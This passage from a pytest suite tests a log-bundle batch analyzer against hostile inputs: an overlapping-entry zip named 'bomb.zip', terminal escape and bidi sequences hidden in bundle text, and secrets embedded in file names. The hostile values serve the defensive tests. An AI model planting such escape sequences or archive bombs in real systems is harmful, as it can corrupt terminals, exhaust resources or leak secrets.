    assert str(fleet.bundles["partial"].dtype) == "bool"
    assert rows["partial"].to_dict() == {"good1.zip": False, "good2.log": False, "partial": True,
                                         "oldpartial": True}
    assert rows.loc["partial", "status"] == "ok"
    assert rows.loc["partial", "note"].startswith("bundle read only in part: logs.zip: 299 members")
    assert "cut at 1 GiB" in rows.loc["partial", "note"]
    assert "size limit" in rows.loc["oldpartial", "note"] and pd.isna(rows.loc["good1.zip", "note"])
    text = fleet.summary()
    assert "2 bundle(s) read only in part" in text and "(2 of them read only in part)" in text
    back = pd.read_parquet(tmp_path / "out" / "bundles.parquet").set_index("bundle")
    assert bool(back.loc["partial", "partial"]) and not bool(back.loc["good1.zip", "partial"])


def test_partial_progress_line(tmp_path, capsys):
    d = _hostile_fleet(tmp_path, "partial")
    assert B.run_batch([d], tmp_path / "out", jobs=1, timeout=60, analyze_fn=hostile_analyze,
                       patterns_version="fake-1") == 0
    err = capsys.readouterr().err
    line = next(x for x in err.splitlines() if " partial " in x)
    assert "no cause found [partial: bundle read only in part" in line


def test_real_zip_with_overlapping_entries_is_partial(tmp_path):
    sys.path.insert(0, str(Path(__file__).parent))
    try:
        from hostile_archives import overlapping_zip
    finally:
        sys.path.pop(0)
    d = tmp_path / "fleet"
    d.mkdir()
    write_zip(d / "good.zip")
    overlapping_zip(d / "bomb.zip", "var/log/waagent.log", AGENT_LINES.encode() * 10, 40)
    fleet = B.execute([d], tmp_path / "out", jobs=2, timeout=120, progress="none")
    rows = fleet.bundles.set_index("bundle")
    assert rows.loc["bomb.zip", "partial"] and not rows.loc["good.zip", "partial"]
    assert "overlapping" in rows.loc["bomb.zip", "note"] or "member" in rows.loc["bomb.zip", "note"]
    assert rows.loc["good.zip", "status"] == "ok"


def test_undecodable_bundle_name_is_a_row_and_reused(tmp_path):
    """A folder named with bytes that are not UTF-8 (a lone surrogate in Python) is analysed,
    stored in state.jsonl, written to every table and skipped on the next run."""
    d = _hostile_fleet(tmp_path)
    try:
        os.makedirs(os.fsencode(str(d)) + b"/vm\xff/var/log")
    except (OSError, UnicodeError):
        pytest.skip("this file system refuses names that are not UTF-8")
    with open(os.fsencode(str(d)) + b"/vm\xff/var/log/waagent.log", "w") as fh:
        fh.write(AGENT_LINES)
    out = tmp_path / "out"
    fleet = B.execute([d], out, jobs=1, timeout=60, progress="none", **FAKE)
    rows = fleet.bundles.set_index("bundle")
    assert rows.loc["vm", "status"] == "ok" and rows.loc["vm", "path"].endswith("vm\ufffd")
    assert len(pd.read_csv(out / "bundles.csv")) == 3 and len(pd.read_parquet(out / "bundles.parquet")) == 3
    again = B.execute([d], out, jobs=1, timeout=60, progress="none", **FAKE)
    assert again.analysed == 0 and again.skipped == 3


def test_bundle_text_cannot_drive_the_terminal_or_the_csv(tmp_path):
    """Escape sequences, line breaks and bidi overrides from a bundle (third red-team pass) are
    '?' in the console summary, the progress lines and the CSVs; the DataFrame keeps the text."""
    import io
    d = _hostile_fleet(tmp_path, "escapes")
    out = tmp_path / "out"
    fleet = B.execute([d], out, jobs=1, timeout=60, progress="none", analyze_fn=hostile_analyze,
                      patterns_version="fake-1")
    assert "\x1b" in fleet.bundles.set_index("bundle").loc["escapes", "extensions"]
    summary = fleet.summary()
    assert all(line.isprintable() for line in summary.split("\n"))
    assert "fake 99" not in [line.strip() for line in summary.split("\n")]
    for name in ("bundles.csv", "findings.csv"):
        text = (out / name).read_text(encoding="utf-8")
        assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text
    from loganalyzer.textio import visible
    assert visible("ok \x1b[2J\u202eline\nnext") == "ok ?[2J?line?next"


def test_a_secret_in_a_bundle_name_stays_out_of_the_tables_and_the_console(tmp_path, capsys):
    """A bundle file named like a SAS URL (red team 8): the console, bundles.csv/.parquet, the
    bundle id and the per-bundle report show the name without the secret; an error that quotes
    the path too."""
    import shutil
    src = tmp_path / "in"
    src.mkdir()
    shutil.copy(Path(__file__).resolve().parents[1] / "samples" / "no-internet-access.zip", src / "x.zip?sv=1&sig=LEAKNAME1.zip")
    (src / "bad sig=LEAKNAME2.zip").write_bytes(b"PK\x03\x04 not a zip")
    out = tmp_path / "out"
    fleet = B.execute([src], out, jobs=1, timeout=60, progress="lines")
    printed = capsys.readouterr()
    assert sorted(fleet.bundles["status"]) == ["error", "ok"]
    assert "LEAKNAME" not in printed.out + printed.err
    assert "LEAKNAME" not in fleet.bundles.to_csv()
    for f in out.rglob("*"):
        if f.is_file():  # the resume state too: it keys bundles by a hash of their path
            assert b"LEAKNAME" not in f.read_bytes() and "LEAKNAME" not in f.name, f
    again = B.execute([src], out, jobs=1, timeout=60, progress="none")
    assert again.skipped == 2 and again.analysed == 0  # found again by their keys (a bad zip stays bad)


def test_a_state_file_keyed_by_paths_is_rekeyed_and_scrubbed(tmp_path):
    """state.jsonl of an older layout (keys were the paths): its entries are re-keyed and their
    paths scrubbed on load, still reused, and the file is rewritten without the secret."""
    src = tmp_path / "in"
    src.mkdir()
    (src / "a sig=LEAKOLD.log").write_text(QUIET_LINES)
    out = tmp_path / "out"
    B.execute([src], out, jobs=1, timeout=30, progress="none", **FAKE)
    entries = [json.loads(x) for x in (out / "state.jsonl").read_text().splitlines()]
    path = str(src / "a sig=LEAKOLD.log")
    for e in entries:  # as an older version stored them
        e["key"] = path
        e["row"]["path"] = path
    (out / "state.jsonl").write_text("".join(json.dumps(e) + "\n" for e in entries))
    again = B.execute([src], out, jobs=1, timeout=30, progress="none", **FAKE)
    assert again.skipped == 1 and again.analysed == 0
    text = (out / "state.jsonl").read_text()
    assert "LEAKOLD" not in text and B.state_key(path) in text


def test_a_link_loop_among_the_inputs_is_named_for_what_it_is(tmp_path):
    """A symbolic link loop matched by a glob was 'permission denied' (red team 8)."""
    (tmp_path / "loop1").symlink_to("loop2")
    (tmp_path / "loop2").symlink_to("loop1")
    (tmp_path / "gone").symlink_to("missing.zip")
    paths, problems = B.expand_inputs([str(tmp_path / "*")])
    assert paths == []
    assert sorted(Path(p.input).name for p in problems) == ["gone", "loop1", "loop2"]
    assert all("leads nowhere" in p.error for p in problems)


def test_dask_engine_leaves_no_scratch_folder(tmp_path, monkeypatch):
    """--engine dask without a scheduler left dask-scratch-space/ in TMPDIR (red team 9): its
    local cluster works in a private folder, removed at the end."""
    pytest.importorskip("distributed")
    import tempfile
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    monkeypatch.setenv("TMPDIR", str(tmp))
    monkeypatch.setattr(tempfile, "tempdir", None)
    d = tmp_path / "in"
    d.mkdir()
    write_zip(d / "vm1.zip")
    fleet = B.execute([d], tmp_path / "out", jobs=1, timeout=120, progress="none", engine="dask")
    assert list(fleet.bundles["status"]) == ["ok"]
    assert list(tmp.iterdir()) == []



@pytest.mark.parametrize("engine", ["local", "dask"])
def test_a_killed_worker_leaves_no_temporary_file(tmp_path, engine):
    """Red team 17: a worker killed at its timeout left its spooled copy of the bundle (tens of MB,
    secrets included) in TMPDIR, with both engines. Each bundle's temporary files go to a folder of
    the run's, removed when its row is in, killed or not."""
    if engine == "dask":
        pytest.importorskip("distributed")
    d = tmp_path / "killed"
    d.mkdir()
    (d / "hang.log").write_text(AGENT_LINES, encoding="utf-8")
    (d / "vm3.log").write_text(AGENT_LINES, encoding="utf-8")
    fleet = B.execute([d / "hang.log", d / "vm3.log"], tmp_path / "out", jobs=2, timeout=2, engine=engine,
                      analyze_fn=test_analyze, patterns_version="fake-1", progress="none")
    rows = fleet.bundles.set_index("bundle")
    assert rows.loc["hang.log", "status"] == "timeout" and rows.loc["vm3.log", "status"] == "ok"
    spooled = Path((d / "hang.where").read_text())
    assert "loganalyzer-batch-" in str(spooled)  # the run's folder, not the system's
    assert not spooled.exists() and not spooled.parent.parent.exists()
